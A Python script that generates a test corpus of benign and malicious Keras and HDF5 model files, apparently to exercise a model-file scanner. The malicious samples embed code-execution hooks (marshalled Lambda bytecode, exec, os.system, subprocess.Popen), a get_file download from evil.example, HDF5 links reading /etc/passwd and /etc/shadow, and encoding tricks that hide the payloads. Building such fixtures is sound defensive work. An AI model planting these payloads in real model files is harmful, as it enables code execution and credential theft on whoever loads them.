#!/usr/bin/env python3
"""Corpus: Keras models (.keras zips and .h5 files) and other HDF5.

Usage: gen_keras.py OUT   -> OUT/benign/*, OUT/malicious/*
Keras itself is not installed: .keras archives are built by hand in Keras 3's layout
(config.json, metadata.json, model.weights.h5) and .h5 files with Debian's python3-h5py, with the
`model_config` attribute Keras 2 writes. Malicious names are `<rule>__<what>.<ext>`.
"""
import io
import json
import os
import sys
import zipfile

import h5py
import numpy as np

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fmtlib import case, case_path, write  # noqa: E402


def dense(name, units, activation="relu"):
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": name, "units": units, "activation": activation, "use_bias": True,
                       "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                              "config": {"seed": None}, "registered_name": None}},
            "build_config": {"input_shape": [None, 4]}}


def sequential(layers):
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True,
                       "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                                   "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}] + layers},
            "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "registered_name": None,
                                             "config": {"learning_rate": 0.001}},
                               "loss": "mse"}}


def weights_h5():
    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=np.ones((4, 2), dtype=np.float32))
        g.create_dataset("1", data=np.zeros((2,), dtype=np.float32))
    return bio.getvalue()


def keras_zip(config):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_h5())
    return bio.getvalue()


def keras_zip_raw(config_bytes):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"}))
        z.writestr("config.json", config_bytes)
        z.writestr("model.weights.h5", weights_h5())
    return bio.getvalue()


def keras_h5(path, model_config, training_config=None, extra=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config).encode()
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode()
        w = f.create_group("model_weights/dense/dense")
        w.create_dataset("kernel:0", data=np.ones((4, 2), dtype=np.float32))
        if extra:
            extra(f)


def main(out):
    b = os.path.join(out, "benign")
    write(f"{b}/keras_sequential.keras", keras_zip(sequential([dense("dense", 2)])))
    k2 = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}]}}
    keras_h5(f"{b}/keras2_sequential.h5", k2, {"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {}}})
    write(f"{b}/weights_only.h5", weights_h5())

    # Lambda with marshalled bytecode (Keras 3 and Keras 2 shapes).
    lam3 = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                       "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOegJpZCkB2gRleGVjKQHaAXipAHIEAAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAADzAAAAAA==",
                                  "defaults": None, "closure": None}}}}
    case(out, "keras.lambda__keras3-bytecode.keras", keras_zip(sequential([lam3])))
    act = dense("dense", 2, {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})
    case(out, "keras.module__builtins-exec-activation.keras", keras_zip(sequential([act])))
    osl = {"module": "os", "class_name": "system", "registered_name": None, "config": {"command": "id"}}
    case(out, "keras.module__os-layer.keras", keras_zip(sequential([osl])))
    rn = dense("dense", 2)
    rn["registered_name"] = "subprocess.Popen"
    case(out, "keras.registered-name__module-path.keras", keras_zip(sequential([rn])))
    lam2 = {"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda",
                                            "output_shape": None, "arguments": {}}}]}}
    keras_h5(case_path(out, "keras.lambda__keras2-h5.h5"), lam2)
    keras_h5(case_path(out, "keras.module__training-config-loss.h5"), k2,
             {"loss": {"module": "posix", "class_name": "system", "config": {}, "registered_name": None}})

    # Allowlist, not denylist: utilities reachable through Keras's own modules.
    def fn(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": name}
    d = dense("dense", 2)
    d["config"]["kernel_initializer"] = fn("keras.utils", "get_file")
    case(out, "keras.function__get-file-initializer.keras", keras_zip(sequential([d])))
    d = dense("dense", 2, fn("keras.src.utils.file_utils", "get_file"))
    case(out, "keras.function__get-file-activation.keras", keras_zip(sequential([d])))
    d = dense("dense", 2, fn("numpy", "load"))
    case(out, "keras.function__numpy-load-activation.keras", keras_zip(sequential([d])))
    d = dense("dense", 2, fn("keras.saving", "load_model"))
    case(out, "keras.function__load-model-activation.keras", keras_zip(sequential([d])))
    d = dense("dense", 2)
    d["config"]["kernel_initializer"] = {"module": "keras.src.utils.file_utils", "class_name": "get_file",
                                         "config": {"origin": "https://evil.example/x", "fname": "/tmp/x"},
                                         "registered_name": None}
    case(out, "keras.dangerous-object__get-file-class.keras", keras_zip(sequential([d])))
    tw = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
          "config": {"name": "torch_module_wrapper", "module": "gASVAAAAAAAAAAA="}}
    case(out, "keras.dangerous-object__torch-module-wrapper.keras", keras_zip(sequential([tw])))
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
            "config": {"name": "tfsm", "filepath": "/tmp/evil_savedmodel"}}
    case(out, "keras.dangerous-object__tfsm-layer.keras", keras_zip(sequential([tfsm])))
    d = dense("dense", 2, "get_file")
    case(out, "keras.function__string-activation.keras", keras_zip(sequential([d])))
    custom = {"module": "keras.layers", "class_name": "MyCustomBlock", "registered_name": None, "config": {"name": "c"}}
    case(out, "keras.unknown-object__custom-class.keras", keras_zip(sequential([custom])))

    # What Python's json reads and a strict parser would not: the Lambda must still be seen.
    lam_cfg = sequential([lam3])
    text = json.dumps(lam_cfg)
    case(out, "keras.lambda__utf16-config.keras", keras_zip_raw(text.encode("utf-16")))
    case(out, "keras.lambda__utf32-be-config.keras", keras_zip_raw(text.encode("utf-32-be")))
    case(out, "keras.lambda__utf8-bom-config.keras", keras_zip_raw(b"\xef\xbb\xbf" + text.encode()))
    with_nan = dense("dense", 2)
    with_nan["config"]["bias_constraint"] = None
    nan_cfg = sequential([with_nan, lam3])
    nan_cfg["config"]["layers"][1]["config"]["epsilon"] = float("nan")
    case(out, "keras.lambda__after-nan.keras", keras_zip_raw(json.dumps(nan_cfg).encode()))
    sur_cfg = sequential([lam3])
    sur_cfg["config"]["name"] = "x\ud800y"
    case(out, "keras.lambda__lone-surrogate.keras", keras_zip_raw(json.dumps(sur_cfg).encode()))
    case(out, "keras.json__truncated-config.keras", keras_zip_raw(text[: len(text) // 2].encode()))
    # A config Keras itself writes with NaN/Infinity values (json.dumps default) is benign.
    ok = dense("dense", 2)
    ok["config"]["kernel_constraint"] = {"module": "keras.constraints", "class_name": "MinMaxNorm",
                                         "config": {"min_value": float("-inf"), "max_value": float("inf"), "rate": 1.0},
                                         "registered_name": None}
    write(f"{b}/keras_inf_values.keras", keras_zip_raw(json.dumps(sequential([ok])).encode()))

    # Legacy .h5: model_config in every form h5py and Keras write; each hides a Lambda.
    lam2_text = json.dumps(lam2)
    def h5_attr(path, set_attr):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with h5py.File(path, "w") as f:
            f.attrs["keras_version"] = "2.15.0"
            set_attr(f)
            f.create_group("model_weights")
    h5_attr(case_path(out, "keras.lambda__vlen-utf8-str.h5"), lambda f: f.attrs.__setitem__("model_config", lam2_text))
    h5_attr(case_path(out, "keras.lambda__fixed-utf8.h5"), lambda f: f.attrs.create(
        "model_config", lam2_text.encode(), dtype=h5py.string_dtype("utf-8", len(lam2_text.encode()))))
    h5_attr(case_path(out, "keras.lambda__vlen-ascii-bytes.h5"), lambda f: f.attrs.create(
        "model_config", lam2_text.encode(), dtype=h5py.string_dtype("ascii")))
    h5_attr(case_path(out, "keras.lambda__fixed-array.h5"), lambda f: f.attrs.__setitem__(
        "model_config", np.array([lam2_text.encode(), b"{}"])))
    h5_attr(case_path(out, "keras.lambda__vlen-array.h5"), lambda f: f.attrs.create(
        "model_config", [json.dumps(k2), lam2_text], dtype=h5py.string_dtype()))
    h5_attr(case_path(out, "keras.unreadable-config__uint8-bytes.h5"), lambda f: f.attrs.__setitem__(
        "model_config", np.frombuffer(lam2_text.encode(), dtype=np.uint8)))
    h5_attr(case_path(out, "keras.json__embedded-nul.h5"), lambda f: f.attrs.__setitem__(
        "model_config", np.bytes_(json.dumps(k2).encode() + b"\0" + lam2_text.encode())))
    # Benign: the same forms around a plain model.
    k2_text = json.dumps(k2)
    h5_attr(f"{b}/keras2_vlen_str.h5", lambda f: f.attrs.__setitem__("model_config", k2_text))
    h5_attr(f"{b}/keras2_fixed_utf8.h5", lambda f: f.attrs.create(
        "model_config", k2_text.encode(), dtype=h5py.string_dtype("utf-8", len(k2_text.encode()))))

    def ext_link(f):
        f["leak"] = h5py.ExternalLink("/etc/passwd", "/data")
    keras_h5(case_path(out, "hdf5.external-link__etc-passwd.h5"), k2, extra=ext_link)

    def ext_storage(f):
        f.create_dataset("stolen", shape=(16,), dtype="u1", external=[("/etc/shadow", 0, 16)])
    keras_h5(case_path(out, "hdf5.external-storage__etc-shadow.h5"), k2, extra=ext_storage)
    raw = open(f"{b}/keras2_sequential.h5", "rb").read()
    case(out, "hdf5.malformed__truncated.h5", raw[: len(raw) // 3])


if __name__ == "__main__":
    main(sys.argv[1])
